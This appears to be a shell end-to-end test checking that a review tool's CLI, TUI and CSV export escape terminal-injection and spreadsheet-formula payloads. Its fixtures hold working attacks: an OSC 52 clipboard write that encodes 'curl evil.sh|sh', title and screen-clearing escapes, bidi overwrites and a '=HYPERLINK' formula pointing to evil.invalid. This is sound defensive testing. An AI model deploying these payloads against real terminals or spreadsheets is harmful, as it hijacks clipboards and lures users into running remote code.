#!/bin/sh
# SPEC 9 against a hostile reviewer: packets of every kind whose every
# displayed string carries terminal attacks (OSC 52 clipboard writes, OSC 0
# titles, CSI cursor moves and clears, DCS, C1 controls as UTF-8, CR and BS
# overwrites, bidi overrides and isolates, zero-width characters).  Every
# text output keeps them off the terminal, the CSV export too, wherever it
# is written (quoted, with formulas neutralised); the review
# screens show them escaped and neither move, retitle nor write the
# clipboard.
. "$TOP_SRCDIR/tests/e2e/lib.sh"
. "$TOP_SRCDIR/tests/e2e/tui_lib.sh"

# lib.sh reports with echo, which in dash turns the "\e" of an expected
# "\e]52;" into a real ESC: report with printf instead, and show text and
# file contents made visible (cat -v), so that a failing run cannot attack
# the terminal its log is read on.
fail() { printf 'FAIL: %s\n' "$*" | cat -v; FAILURES=$((FAILURES + 1)); }
pass() { printf 'ok: %s\n' "$*"; }
expect_contains() {
	if grep -qF -- "$3" "$2"; then pass "$1"; else
		fail "$1: [$3] not in $2:"
		sed 's/^/    /' "$2" | cat -v
	fi
}
command -v script >/dev/null 2>&1 || { echo "script (util-linux) is needed"; exit 77; }

# What must never reach a terminal: C0 controls (newline aside; tab too,
# since no output here has a reason to hold one), DEL, C1 as UTF-8, bidi
# and invisible format characters (U+200B-200F, U+2028-202E, U+2060-2069,
# U+061C, U+FEFF).
RAW_CONTROL='[\x00-\x09\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\x8b-\x8f\xa8-\xae]|\xe2\x81[\xa0-\xa9]|\xd8\x9c|\xef\xbb\xbf'
raw_lines() { LC_ALL=C grep -c -P "$RAW_CONTROL" "$1" || true; }

# expect_clean WHAT FILE: no line of FILE holds a raw control byte.
expect_clean() {
	n=$(raw_lines "$2")
	if [ "$n" -eq 0 ]; then pass "$1"; else
		fail "$1: $n line(s) with raw control bytes:"
		LC_ALL=C grep -n -P "$RAW_CONTROL" "$2" | head -3 | cut -c1-200 | cat -v | sed 's/^/    /'
	fi
}

# on_terminal OUT ARGS...: countersign ARGS with stdout a terminal (a pty
# from script(1), output post-processing off so the bytes are its own).
on_terminal() {
	out=$1
	shift
	set +e
	script -qec "stty -onlcr; '$COUNTERSIGN' --db '$DB' $*" /dev/null \
		</dev/null >"$out" 2>&1
	set -e
}

# The attacks, as JSON string literals for jq.  A is the whole set; S, a
# shorter one, fits in an id (at most 256 bytes).
cat >"$WORK/attack.jq" <<'EOF'
def A: "\u001b]52;c;Y3VybCBldmlsLnNofHNo\u0007\u001b]0;pwned\u0007\u001b[2J\u001b[H\u001b[10A\u001bPq#0;2;0;0;0\u001b\\\u009b31m\u009d0;x\u009cREJECT\rAPPROVE\b\b\b\b\b\b\bREJECT\u202e\u2066\u2067\u2068\u2069\u200b\ufeff\u200e\u2028\u061c\u007f\u0007";
def S: "\u001b]52;c;aGk=\u0007\u001b]0;T\u0007\u001b[2J\u001b[H\u001b[10A\u001bPx\u001b\\\u009b31m\u009d0;x\u009cNO\rOK\b\b\u202e\u2066\u200b\ufeff";
def trade_a($n): {type: "packet", kind: "trade",
  proposed_action: {action_id: ("inj-trade-a\($n)" + S), user_id: "u-1001",
    ticker: "BND", side: "buy", quantity: 100, estimated_value_usd: 7500,
    ips_version_referenced: {ips_id: "ips-7f3a", version: 3},
    rationale: A, author: ("au" + S), requested_by: ("rq" + S),
    drafted_at: "2026-11-29T08:15:00Z", status: "drafted", stage: A},
  reviewer_verdict: {verdict_id: A, action_id: ("inj-trade-a\($n)" + S),
    ips_version_checked_against: {ips_id: "ips-7f3a", version: 3},
    rule_results: ((["excluded_ticker", "excluded_sector",
      "concentration_limit", "allocation_band_direction",
      "ips_version_current"] | map({rule_id: ., description: A,
      passed: true, detail: A}))
      + [{rule_id: ("rule" + S), description: A, passed: false, detail: A}]),
    overall_pass: true, requires_human_approval: false,
    reviewer_skill_version: {skill_name: A, skill_version: A},
    reviewed_at: A}};
def trade_b: {type: "packet", kind: "trade",
  proposed_action: {action_id: ("inj-trade-b" + S), user_id: ("u" + S),
    ticker: ("T" + S), side: "sell", quantity: 1, estimated_value_usd: 5,
    ips_version_referenced: {ips_id: ("ips" + S), version: 1},
    rationale: A, author: ("au" + S), revision_of: ("prev" + S),
    expires_at: "2099-01-01T00:00:00Z"},
  reviewer_verdict: {action_id: ("inj-trade-b" + S), overall_pass: true,
    rule_results: [{rule_id: "excluded_ticker", passed: true, detail: A}]}};
def legal: {type: "packet", kind: "legal_draft",
  proposed_action: {action_id: ("inj-legal" + S), author: ("au" + S),
    requested_by: ("rq" + S), doc_type: A, law_domain: A, user_request: A,
    draft_text: ("DRAFT " + A + "\nsecond line " + A),
    gate_errors: [{gate: A, message: A}]},
  reviewer_verdict: ("Review " + A + "\n```json\n"
    + ({review_pass: true,
        blocking_issues: [{issue: ("ISSUE " + A), severity: "legal",
          section: ("SEC " + A)}],
        non_blocking_issues: [{issue: ("NB " + A), severity: "formatting"}],
        final_artifacts: [{text: ("FIXED " + A)}]} | tojson)
    + "\n```\nDone " + A)};
def change: {type: "packet", kind: "change",
  proposed_action: {action_id: ("inj-change" + S), author: ("au" + S),
    requested_by: ("rq" + S), title: A,
    acceptance_criteria: [{id: ("AC" + S), text: A}],
    changed_files: [("scripts/x" + S + ".sh")], ci_status: "green",
    pr_url: A, head_sha: "0123456789abcdef0123456789abcdef01234567"},
  reviewer_verdict: {outcome: "accepted",
    ac_results: [{ac_id: ("AC" + S), state: "MET",
      evidence: {command: A, output: A}}],
    standards: [{id: "ADR-007", met: true, note: A}],
    gaps: [{class: "missing_fact", text: A}]}};
EOF
attack() { jq -nr "$(cat "$WORK/attack.jq") $1"; }
RAW_A=$(attack A)
RAW_S=$(attack S)
# How the sanitizer shows them.
SHOWN_A='\e]52;c;Y3VybCBldmlsLnNofHNo^G\e]0;pwned^G\e[2J\e[H\e[10A\ePq#0;2;0;0;0\e\<U+009B>31m<U+009D>0;x<U+009C>REJECT^MAPPROVE^H^H^H^H^H^H^HREJECT<U+202E><U+2066><U+2067><U+2068><U+2069><U+200B><U+FEFF><U+200E><U+2028><U+061C>^?^G'
SHOWN_S='\e]52;c;aGk=^G\e]0;T^G\e[2J\e[H\e[10A\ePx\e\<U+009B>31m<U+009D>0;x<U+009C>NO^MOK^H^H<U+202E><U+2066><U+200B><U+FEFF>'
# And JSON output: every control, C1 and format character as \uXXXX.
JSON_S='\u001b]52;c;aGk=\u0007\u001b]0;T\u0007\u001b[2J\u001b[H\u001b[10A\u001bPx\u001b\\\u009b31m\u009d0;x\u009cNO\rOK\b\b\u202e\u2066\u200b\ufeff'

jq -nc "$(cat "$WORK/attack.jq") trade_a(1), trade_a(2), trade_a(3), trade_b, legal, change" \
	>"$WORK/hostile.jsonl"
expect_eq "the attack reaches the packets as raw bytes (ESC, C1, U+202E)" \
	"$(jq -r .proposed_action.rationale "$WORK/hostile.jsonl" | head -1 |
	LC_ALL=C grep -c -P '\x1b\]52;c;.*\xc2\x9b31m.*\xe2\x80\xae')" 1
cs import "$EXAMPLES/security_map.json" "$EXAMPLES/ips.json" \
	"$EXAMPLES/holdings.json" "$EXAMPLES/standards_index.json" \
	"$EXAMPLES/roster.json" >/dev/null
expect_status "the hostile packets import (they are valid)" 0 cs import "$WORK/hostile.jsonl"
expect_contains "all six" "$WORK/out" "6 imported, 0 unchanged"
ID_A1="inj-trade-a1$RAW_S" ID_A2="inj-trade-a2$RAW_S" ID_A3="inj-trade-a3$RAW_S"
ID_B="inj-trade-b$RAW_S" ID_LEGAL="inj-legal$RAW_S" ID_CHANGE="inj-change$RAW_S"

# ---- the pending queue: list, list --all, list --json, check ----
for args in "list" "list --all" "list --json" "check"; do
	set +e
	# shellcheck disable=SC2086
	cs $args >"$WORK/o" 2>&1
	set -e
	expect_clean "'$args' to a file: no raw control byte" "$WORK/o"
	on_terminal "$WORK/t" "$args"
	expect_clean "'$args' to a terminal: no raw control byte" "$WORK/t"
done
cs list --all >"$WORK/list"
expect_contains "list: the advisory's detail, escaped" "$WORK/list" "advisory said: $SHOWN_A"
expect_contains "list: a hostile advisory rule id, escaped" "$WORK/list" "! rule$SHOWN_S: advisory FAIL"
expect_contains "list: a hostile user id, escaped (then cut)" "$WORK/list" ' u\e]52;c;aG'
expect_eq "list: one table line per action" "$(grep -c '^[ Hx!LDE]\{6\} [a-z]' "$WORK/list")" 6
cs list --json >"$WORK/list.json"
expect_eq "list --json: JSON escapes, and reads back as the exact ids" \
	"$(jq -r .action_id "$WORK/list.json" | sort | od -c)" \
	"$(printf '%s\n' "$ID_A1" "$ID_A2" "$ID_A3" "$ID_B" "$ID_CHANGE" "$ID_LEGAL" | sort | od -c)"
expect_contains "list --json: the id as \\u escapes" "$WORK/list.json" "\"inj-legal$JSON_S\""
set +e
cs check >"$WORK/check"
set -e
expect_eq "check: one line per action" "$(jq -r .action_id "$WORK/check" | wc -l | tr -d ' ')" 6
expect_contains "check: the advisory-only rule id escaped in the divergence" "$WORK/check" "\"what\":\"rule$JSON_S\""
expect_status "check of one hostile id, named on the command line" 0 cs check "$ID_CHANGE"
expect_clean "check ID: no raw control byte" "$WORK/out"

# ---- the review screens ----
tui_start 80 24
tm set-option -g set-clipboard on	# an OSC 52 would now fill a tmux buffer
tm select-pane -t 0 -T "cs-title"

flat() { screen | sed 's/^ *↪ //' | tr -d '\n'; }
# expect_flat WHAT TEXT: the screen, rows joined, shows TEXT (wrapped
# rows are full width, so text that wraps reads back whole once the
# indent and mark of each continuation row are taken off).
expect_flat() {
	tries=0
	while ! flat | grep -qF -- "$2"; do
		tries=$((tries + 1))
		if [ $tries -gt 60 ]; then
			fail "$1: the screen never showed [$2]:"
			screen | sed 's/^/    /'
			return 0
		fi
		sleep 0.05
	done
	pass "$1"
}

# expect_scrolled WHAT TEXT: j, one screen row at a time, until the
# screen shows TEXT (deeper in a detail than its first screen).
expect_scrolled() {
	rows=0
	while ! flat | grep -qF -- "$2"; do
		rows=$((rows + 1))
		if [ $rows -gt 80 ]; then
			fail "$1: scrolling never showed [$2]:"
			screen | sed 's/^/    /'
			return 0
		fi
		keys j
		sleep 0.02
	done
	pass "$1"
}

# detail PREFIX HEADER: opens the action whose id starts with PREFIX
# (searching the queue for it) and waits for HEADER.
IN_DETAIL=
detail() {
	if [ -n "$IN_DETAIL" ]; then
		keys q
		wait_for "filter: "
	fi
	keys /
	keys C-u "$1" Enter
	wait_for "search: $1"
	keys Enter
	wait_for "$2"
	IN_DETAIL=yes
}
for case in "inj-trade-a1|trade" "inj-trade-a2|trade" "inj-trade-a3|trade" \
	"inj-trade-b|trade" "inj-legal|legal_draft" "inj-change|change"; do
	prefix=${case%|*} kind=${case#*|}
	header="$kind $prefix\\e]52;c;aGk=^G\\e]0;T^G\\e[2J"
	detail "$prefix" "$header"
	expect_eq "$prefix: the first line is still the detail header" \
		"$(screen | head -1 | cut -c1-${#header})" "$header"
	expect_eq "$prefix: the pane title is unchanged" \
		"$(tm display-message -p -t 0 '#{pane_title}')" cs-title
	expect_flat "$prefix: its id shows escaped" "$prefix$SHOWN_S"
	case $prefix in
	inj-legal) expect_flat "$prefix: the request shows escaped" "  $SHOWN_A" ;;
	inj-change) expect_flat "$prefix: the title shows escaped" "Title: $SHOWN_A" ;;
	*) expect_flat "$prefix: the rationale shows escaped" "Rationale: $SHOWN_A" ;;
	esac
	expect_eq "$prefix: the clipboard is untouched" "$(tm list-buffers)" ""
done
# Deeper in the details (scrolled to with j): the advisory's words, the
# evidence, the fix.
detail inj-trade-a1 "trade inj-trade-a1"
expect_scrolled "trade: what the advisory said, escaped" "advisory said: $SHOWN_A"
detail inj-change "change inj-change"
expect_scrolled "change: the criterion's evidence command, escaped" "\$ $SHOWN_A"
expect_scrolled "change: a gap, escaped" "- $SHOWN_A"
detail inj-legal "legal_draft inj-legal"
expect_scrolled "legal: the blocking issue, escaped" "[legal] SEC $SHOWN_A"
expect_scrolled "legal: the fixed text approval approves, escaped" "+ FIXED $SHOWN_A"

# Paging (Space / PgDn) must show every line of a long detail: here the
# legal draft's issues and the fix that approval approves, which sit
# between the first page and the rules.
detail inj-legal "legal_draft inj-legal"
screen >"$WORK/pages"
for _ in 1 2 3 4; do
	keys NPage
	sleep 0.3
	screen >>"$WORK/pages"
done
expect_contains "paging the legal detail shows the blocking issue" "$WORK/pages" "[legal] SEC \\e]52;c;"
expect_contains "paging the legal detail shows what approval approves" "$WORK/pages" \
	"Approving approves the INLINE FIX"
expect_contains "paging the legal detail reaches the rules" "$WORK/pages" "gates_clear"
expect_eq "after paging, the pane title is unchanged" \
	"$(tm display-message -p -t 0 '#{pane_title}')" cs-title
expect_eq "after paging, the clipboard is untouched" "$(tm list-buffers)" ""
tui_stop

# ---- decisions, in batch: every formula trigger starts one reason ----
jq -nc "$(cat "$WORK/attack.jq")
	{action_id: (\"inj-trade-a1\" + S), decision: \"approve\", acknowledge: [\"divergence\"],
	 reason: (\"=HYPERLINK(\\\"http://evil.invalid\\\",\\\"x\\\") \" + A)},
	{action_id: (\"inj-trade-a2\" + S), decision: \"approve\", acknowledge: [\"divergence\"],
	 reason: (\"\\t\" + A)},
	{action_id: (\"inj-trade-a3\" + S), decision: \"approve\", acknowledge: [\"divergence\"],
	 reason: (\"\\r\" + A)},
	{action_id: (\"inj-trade-b\" + S), decision: \"reject\", reason: (\"@SUM(1) \" + A),
	 reassign_to: (\"x\" + S)},
	{action_id: (\"inj-trade-b\" + S), decision: \"reject\", reason: (\"@SUM(1) \" + A),
	 escalate: true},
	{action_id: (\"inj-legal\" + S), decision: \"reject\", reason: (\"+1 \" + A), escalate: true},
	{action_id: (\"inj-change\" + S), decision: \"approve\", reason: (\"-1 \" + A)},
	{action_id: (\"inj-change\" + S), decision: \"approve\", reason: A},
	{action_id: (\"nope\" + S), decision: \"approve\", reason: A},
	{action_id: (\"inj-trade-a1\" + S), decision: (\"approve\" + S)},
	{(\"bad\" + S): 1, action_id: \"x\", decision: \"approve\"}" >"$WORK/batch.jsonl"
expect_status "batch: refusals among the lines" 1 cs batch "$WORK/batch.jsonl"
cp "$WORK/out" "$WORK/batch.out"
expect_clean "batch results: no raw control byte" "$WORK/batch.out"
expect_clean "batch: nothing raw on stderr" "$WORK/err"
expect_eq "batch: what was recorded and refused" \
	"$(jq -r '"\(.line) \(.status) \(.code)"' "$WORK/batch.out" | tr '\n' ' ')" \
	"1 recorded null 2 recorded null 3 recorded null 4 refused reassignee_locked_out 5 recorded null 6 recorded null 7 recorded null 8 refused already_decided 9 refused unknown_action 10 refused bad_request 11 refused bad_request "
expect_contains "batch: a refusal quoting a hostile id, escaped" "$WORK/batch.out" \
	"\"message\":\"unknown action nope$JSON_S\""
expect_contains "batch: a refusal quoting a hostile author, escaped" "$WORK/batch.out" \
	"\"message\":\"x$JSON_S is not on the roster"
expect_contains "batch: a refusal quoting a hostile key, escaped" "$WORK/batch.out" \
	"\"message\":\"bad$JSON_S: unknown field\""
on_terminal "$WORK/t" batch "'$WORK/batch.jsonl'"
expect_clean "batch to a terminal (all refused now): no raw control byte" "$WORK/t"

# ---- after the decisions: list --all, the audit log ----
for args in "list --all" "audit export" "audit verify"; do
	set +e
	# shellcheck disable=SC2086
	cs $args >"$WORK/o" 2>&1
	set -e
	expect_clean "'$args' to a file: no raw control byte" "$WORK/o"
	on_terminal "$WORK/t" "$args"
	expect_clean "'$args' to a terminal: no raw control byte" "$WORK/t"
done
expect_status "the chain verifies" 0 cs audit verify
cs audit export >"$WORK/export"
jq -c --arg id "$ID_LEGAL" 'select(.record.action_id == $id) | .record.advisory_verdict' \
	"$WORK/export" >"$WORK/legal-advisory"
expect_eq "audit export: the advisory exactly as received (legal, a string)" \
	"$(jq -c .reviewer_verdict "$WORK/hostile.jsonl" | sed -n 5p)" "$(cat "$WORK/legal-advisory")"
expect_eq "audit export: the reason reads back exactly" \
	"$(jq -r --arg id "$ID_CHANGE" 'select(.record.action_id == $id) | .record.reason' "$WORK/export" | od -c)" \
	"$(printf '%s\n' "-1 $RAW_A" | od -c)"

for id in "$ID_A1" "$ID_B" "$ID_LEGAL" "$ID_CHANGE"; do
	expect_status "audit replay of a hostile id" 0 cs audit replay "$id"
	expect_clean "audit replay: no raw control byte" "$WORK/out"
	expect_contains "audit replay: the id escaped" "$WORK/out" "$SHOWN_S: same inputs, same verdict"
done

# The CSV, to a terminal: sanitized like everything else.
on_terminal "$WORK/csv-tty" audit export --csv
expect_clean "CSV to a terminal: no raw control byte" "$WORK/csv-tty"
expect_contains "CSV to a terminal: the reason escaped, neutralised" "$WORK/csv-tty" \
	"\"'=HYPERLINK(\"\"http://evil.invalid\"\",\"\"x\"\") $SHOWN_A\""
expect_contains "CSV to a terminal: a tab-led reason, neutralised and shown" "$WORK/csv-tty" "\"'^I$SHOWN_A\""

# The CSV, to a file: escaped as on a terminal (a file is read through
# a pager as often as not; the JSON export has the exact text), every cell
# quoted, every formula trigger (= + - @ tab CR) neutralised with a '.
cs audit export --csv >"$WORK/export.csv"
expect_eq "CSV file: a header and six rows (no raw newline in the text)" \
	"$(wc -l <"$WORK/export.csv" | tr -d ' ')" 7
expect_clean "CSV file: no raw control byte either" "$WORK/export.csv"
cmp -s "$WORK/export.csv" "$WORK/csv-tty" 2>/dev/null ||
	[ "$(tr -d '\r' <"$WORK/csv-tty")" = "$(cat "$WORK/export.csv")" ] &&
	pass "CSV file: the same text as to a terminal" ||
	fail "CSV file: not the same text as to a terminal"
# csv_reason WHAT REASON: REASON is one cell of the file, exactly.
csv_reason() {
	expect_eq "CSV file: $1: the reason escaped, quoted, neutralised" \
		"$(LC_ALL=C grep -c -F -- ",\"$2\"," "$WORK/export.csv")" 1
}
csv_reason "=, with quotes doubled" "'=HYPERLINK(\"\"http://evil.invalid\"\",\"\"x\"\") $SHOWN_A"
csv_reason "tab" "'^I$SHOWN_A"
csv_reason "CR" "'^M$SHOWN_A"
csv_reason "@" "'@SUM(1) $SHOWN_A"
csv_reason "+" "'+1 $SHOWN_A"
csv_reason "-" "'-1 $SHOWN_A"
expect_eq "CSV file: the ids escaped and quoted" \
	"$(LC_ALL=C grep -c -F -- ",\"inj-trade-a1$SHOWN_S\"," "$WORK/export.csv")" 1
expect_eq "CSV file: no cell starts with a live formula trigger" \
	"$(LC_ALL=C grep -c -P '(^|,)"[=+@\t\r-]' "$WORK/export.csv" || true)" 0
# Each row read as RFC 4180: every cell opens with a quote, "" inside is
# a quote, cells are separated by commas outside quotes.
expect_eq "CSV file: every row is 26 quoted cells (SPEC 7 v3 added 9)" \
	"$(LC_ALL=C awk '{
		n = 1; inq = 0; start = 1; bad = 0
		for (i = 1; i <= length($0); i++) {
			c = substr($0, i, 1)
			if (start) { if (c != "\"") bad = 1; start = 0; inq = 1; continue }
			if (inq) {
				if (c == "\"") {
					if (substr($0, i + 1, 1) == "\"") i++
					else inq = 0
				}
			} else if (c == ",") { n++; start = 1 } else bad = 1
		}
		print (bad || inq) ? "malformed" : n
	}' "$WORK/export.csv" | sort -u)" 26

# ---- error messages that quote hostile text ----
jq -c '.proposed_action.ticker = "VTI"' "$WORK/hostile.jsonl" | head -1 >"$WORK/conflict.jsonl"
expect_status "a conflicting re-import of a hostile id is refused" 3 cs import "$WORK/conflict.jsonl"
expect_clean "its message: no raw control byte" "$WORK/err"
expect_contains "its message quotes the id escaped" "$WORK/err" \
	"conflict: action inj-trade-a1$SHOWN_S was already imported"
jq -c --arg k "wire$RAW_A" '.kind = $k' "$WORK/hostile.jsonl" | head -1 >"$WORK/kind.jsonl"
expect_status "an unknown hostile kind is refused" 3 cs import "$WORK/kind.jsonl"
expect_clean "its message: no raw control byte" "$WORK/err"
expect_contains "its message quotes the kind escaped (and cut)" "$WORK/err" 'unknown packet kind "wire\e]52;c;'
evil_file="$WORK/evil$RAW_S.jsonl"
cp "$WORK/conflict.jsonl" "$evil_file"
expect_status "a hostile file name" 3 cs import "$evil_file"
expect_clean "its messages: no raw control byte" "$WORK/err"
expect_contains "the file name escaped" "$WORK/err" "evil$SHOWN_S.jsonl:1: proposed_action.action_id"
expect_status "check of an unknown hostile id" 1 cs check "nope$RAW_S"
expect_clean "its message: no raw control byte" "$WORK/err"
expect_contains "it names the id escaped" "$WORK/err" "unknown action nope$SHOWN_S"
expect_status "audit replay of an unknown hostile id" 1 cs audit replay "nope$RAW_S"
expect_clean "its message: no raw control byte" "$WORK/err"
expect_contains "it names the id escaped" "$WORK/err" "nope$SHOWN_S"

# A directory that cannot be read, its name hostile (root reads anything,
# so it drops its capabilities for this one when it can).
unreadable="$WORK/drop$RAW_S"
mkdir -p "$unreadable/sub"
chmod 000 "$unreadable/sub"
drop=
if [ "$(id -u)" -eq 0 ]; then
	if command -v setpriv >/dev/null 2>&1 &&
		setpriv --inh-caps=-all --bounding-set=-all true 2>/dev/null; then
		drop="setpriv --inh-caps=-all --bounding-set=-all"
	else
		drop=none
	fi
fi
if [ "$drop" = none ]; then
	echo "skip: an unreadable directory (root, and no setpriv to drop capabilities)"
else
	# shellcheck disable=SC2086
	expect_status "an unreadable directory is reported" 3 $drop "$COUNTERSIGN" --db "$DB" import "$unreadable"
	expect_contains "it is named" "$WORK/err" "drop$SHOWN_S/sub: Permission denied"
	expect_clean "its message: no raw control byte" "$WORK/err"
fi
chmod 700 "$unreadable/sub"

# ---- the history screen, after the decisions ----
tui_start 80 24
tm set-option -g set-clipboard on
tm select-pane -t 0 -T "cs-title"
keys h
wait_for "HISTORY"
expect_flat "history: a hostile reason shows escaped" "reason: -1 $SHOWN_A"
expect_flat "history: a hostile id shows escaped" "APPROVED inj-change$SHOWN_S by "
expect_eq "history: the first line is still its header" "$(screen | head -1 | cut -c1-8)" HISTORY:
expect_eq "history: the pane title is unchanged" "$(tm display-message -p -t 0 '#{pane_title}')" cs-title
expect_eq "history: the clipboard is untouched" "$(tm list-buffers)" ""

# The detectors work: the same bytes printed raw in another window do
# retitle it, clear it and fill a tmux buffer.
printf '%s\n' "before $RAW_A after" >"$WORK/raw-attack"
tm new-window -d "cat '$WORK/raw-attack'; sleep 60"
sleep 0.5
expect_eq "control: raw, the title is set" "$(tm display-message -p -t :1 '#{pane_title}')" pwned
expect_eq "control: raw, the clipboard is written" "$(tm list-buffers | grep -c 'curl evil' || true)" 1
expect_eq "control: raw, the screen is cleared (no 'before')" \
	"$(tm capture-pane -p -t :1 | grep -c before || true)" 0
finish
